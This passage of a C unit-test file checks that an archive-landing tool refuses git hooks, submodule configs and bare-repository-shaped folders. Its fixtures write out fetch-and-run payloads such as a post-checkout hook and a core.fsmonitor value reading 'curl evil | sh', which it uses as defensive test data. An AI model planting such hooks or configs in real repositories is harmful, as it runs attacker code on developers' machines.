    tb_file(&t, ".git/modules/m/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n");
    tb_file(&t, "src/a.c", "int a;\n");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK(".git/modules/m/hooks/post-checkout", "src/a.c"), 0, CP_LAND_MAX_BYTES);
    assert_int_equal(r.rc, 0);
    assert_landed("src/a.c", "int a;\n"); /* the run itself is not refused */
    assert_false(exists_nofollow(S.work, ".git"));
    assert_refused(&r, ".git/modules/m/hooks/post-checkout (under a .git folder)");
    tb_free(&t);
}

static void test_landing__submodule_config_fsmonitor__refused(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_file(&t, ".git/modules/m/config", "[core]\n\tfsmonitor = curl evil | sh\n");
    tb_file(&t, "lib/m/.git/config", "[core]\n\tfsmonitor = evil\n");
    tb_file(&t, ".GIT/Modules/m/info/attributes", "* filter=evil\n");
    tb_file(&t, "ok.txt", "ok");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t,
            ASK(".git/modules/m/config", "lib/m/.git/config", ".GIT/Modules/m/info/attributes",
                "ok.txt"),
            0, CP_LAND_MAX_BYTES);
    assert_landed("ok.txt", "ok");
    assert_int_equal(r.rep.landed, 1);
    assert_refused(&r, ".git/modules/m/config (under a .git folder)");
    assert_refused(&r, ".GIT/Modules/m/info/attributes (under a .git folder)");
    assert_false(exists_nofollow(S.work, ".git"));
    assert_false(exists_nofollow(S.work, "lib"));
    tb_free(&t);
}

/* Issue 20: a .git below the top whose path goes on past it. Neither is .git/hooks nor
 * .git/config right after the .git, so only "nothing under any component named .git" stops
 * them: a nested submodule's hook, and attributes that name a filter git runs. */
static void test_landing__nested_git_path_past_it__refused(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_file(&t, "lib/m/.git/modules/x/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n");
    tb_file(&t, "sub/.git/info/attributes", "* filter=evil\n");
    tb_file(&t, "ok.txt", "ok");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t,
            ASK("lib/m/.git/modules/x/hooks/post-checkout", "sub/.git/info/attributes", "ok.txt"),
            0, CP_LAND_MAX_BYTES);
    assert_int_equal(r.rc, 0);
    assert_landed("ok.txt", "ok");
    assert_int_equal(r.rep.landed, 1);
    assert_refused(&r, "lib/m/.git/modules/x/hooks/post-checkout (under a .git folder)");
    assert_refused(&r, "sub/.git/info/attributes (under a .git folder)");
    assert_false(exists_nofollow(S.work, "lib"));
    assert_false(exists_nofollow(S.work, "sub"));
    tb_free(&t);
}

/* A folder git would take for a bare repository, with a config that runs a command. */
static void test_landing__bare_repo_shaped_folder__refused(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_file(&t, "tools/evil/HEAD", "ref: refs/heads/main\n");
    tb_file(&t, "tools/evil/config", "[core]\n\tbare = true\n\tfsmonitor = curl evil | sh\n");
    tb_file(&t, "tools/evil/objects/info/packs", "\n");
    tb_file(&t, "tools/evil/refs/heads/main", "0000000000000000000000000000000000000000\n");
    tb_file(&t, "tools/readme.md", "tools");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t,
            ASK("tools/evil/HEAD", "tools/evil/config", "tools/evil/objects/info/packs",
                "tools/evil/refs/heads/main", "tools/readme.md"),
            0, CP_LAND_MAX_BYTES);
    assert_landed("tools/readme.md", "tools");
    assert_false(exists_nofollow(S.work, "tools/evil/HEAD"));
    assert_false(exists_nofollow(S.work, "tools/evil/objects"));
    assert_false(exists_nofollow(S.work, "tools/evil/refs"));
    assert_refused(&r, "tools/evil/HEAD (it would make a folder git takes for a repository)");
    tb_free(&t);
}

/* The same shape spread over two pulls: the second one would complete it. */
static void test_landing__bare_repo_shape_over_two_pulls__second_refused(void **state)
{
    put_file(S.work, "x/HEAD", "ref: refs/heads/main\n"); /* landed by an earlier pull */
    struct tb t;
    tb_init(&t);
    tb_file(&t, "x/refs/heads/main", "0\n");
    tb_file(&t, "y/commondir", "../../.git\n");
    tb_file(&t, "y/HEAD", "ref: refs/heads/main\n");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("x/refs/heads/main", "y/commondir", "y/HEAD"), 0, CP_LAND_MAX_BYTES);
    assert_int_equal(r.rep.landed, 0);
    assert_false(exists_nofollow(S.work, "x/refs"));
    assert_false(exists_nofollow(S.work, "y"));
    assert_refused(&r, "x/refs/heads/main (it would make a folder git takes for a repository)");
    assert_refused(&r, "y/commondir (it would make a folder git takes for a repository)");
    tb_free(&t);
}

/* The work folder itself made into a bare repository: HEAD and objects at the top. */
static void test_landing__work_folder_made_repo_shaped__refused(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_file(&t, "HEAD", "ref: refs/heads/main\n");
    tb_file(&t, "objects/ab/cdef", "x");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("HEAD", "objects/ab/cdef"), 0, CP_LAND_MAX_BYTES);
    assert_int_equal(r.rep.landed, 0);
    assert_int_equal(count_tree(S.work), 0);
    assert_refused(&r, "HEAD (it would make a folder git takes for a repository)");
    tb_free(&t);
}

/* Only the shape is refused: a file named HEAD, or a refs folder, alone still lands. */
static void test_landing__head_or_refs_alone__lands(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_file(&t, "a/HEAD", "notes\n");
    tb_file(&t, "docs/refs/api.md", "api\n");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("a/HEAD", "docs/refs/api.md"), 0, CP_LAND_MAX_BYTES);
    assert_landed("a/HEAD", "notes\n");
    assert_landed("docs/refs/api.md", "api\n");
    tb_free(&t);
}

/* DESIGN.md's one list, written out (not read from the table), each two folders deep: none
 * of them lands, nor anything under the folders it names. */
static void test_landing__one_list__every_pattern_refused_at_depth(void **state)
{
    for (size_t i = 0; i < ARRAY_SIZE(one_list_paths); i++) {
        cleanup_free char *deep = xasprintf("a/b/%s", one_list_paths[i]);
        const char *why = cp_rules_check_back(NULL, deep);
        if (why == NULL || strcmp(why, "protected place") != 0)
            fail_msg("%s would land (%s)", deep, why ? why : "allowed");
        if (cp_rules_check_back(NULL, one_list_paths[i]) == NULL)
            fail_msg("%s would land at the top", one_list_paths[i]);
    }
    /* Neighbours that are not keys still land. */
    assert_null(cp_rules_check_back(NULL, "a/.config/other.json"));
    assert_null(cp_rules_check_back(NULL, "a/credentials"));
    assert_null(cp_rules_check_back(NULL, ".docker/daemon.json"));
    /* Not a key, but a rustc-wrapper or runner in it runs at the next cargo build: host-run. */
    assert_string_equal(cp_rules_check_back(NULL, ".cargo/config.toml"), CP_RULES_HOST_RUN);
    /* Not a key, but yarnPath in it runs code at the next install here: host-run. */
    assert_string_equal(cp_rules_check_back(NULL, ".yarnrc.yml"), CP_RULES_HOST_RUN);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_landing__dotdot_component__refused, setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__absolute_and_repeated_roots__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_landing__prefix_of_requested_name__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_landing__unrequested_file__refused_requested_lands,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__empty_and_dot_names__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_landing__alias_of_requested_name__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(
            test_landing__pax_path_overrides_ustar_name__judged_on_final_name, setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__header_desync_smuggled_hook__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_landing__very_long_names__refused, setup, teardown),
        cmocka_unit_test_setup_teardown(
            test_landing__control_chars_in_name__refused_and_shown_escaped, setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__nul_in_pax_path__nothing_named_x, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_landing__case_variants__refused, setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__invisible_code_points__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_landing__protected_places__refused, setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__dependency_folders__refused, setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__symlink_then_file_through_it__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_landing__dir_then_symlink_same_name__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_landing__symlink_chain__refused, setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__hardlink_to_outside_then_data__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_landing__hardlink_with_body_reads_as_regular__refused,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__devices_fifos_and_oddities__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_landing__type_confusion_on_requested_name__refused,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__duplicate_entries__neither_lands, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_landing__symlink_already_on_the_way__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_landing__target_is_a_link__link_never_written_through,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(
            test_landing__target_is_fifo_or_folder__refused_without_blocking, setup, teardown),
        cmocka_unit_test_setup_teardown(
            test_landing__folder_swapped_for_symlink_during_landing__nothing_outside, setup,
            teardown),
        cmocka_unit_test_setup_teardown(test_landing__work_folder_moved__lands_in_the_opened_folder,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__setid_and_world_write_bits__dropped, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_landing__over_budget__nothing_lands, setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__size_that_lies__refused, setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__entry_flood__stopped, setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__other_formats_and_filters__unrecognised,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__truncated_stream__nothing_lands, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_landing__second_archive_after_the_end__not_landed,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__changed_here_meanwhile__far_copy_kept_beside,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__nested_git_path_past_it__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_landing__submodule_hook_under_git_modules__refused,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__submodule_config_fsmonitor__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_landing__bare_repo_shaped_folder__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(
            test_landing__bare_repo_shape_over_two_pulls__second_refused, setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__work_folder_made_repo_shaped__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_landing__head_or_refs_alone__lands, setup, teardown),
        cmocka_unit_test_setup_teardown(test_landing__one_list__every_pattern_refused_at_depth,
                                        setup, teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
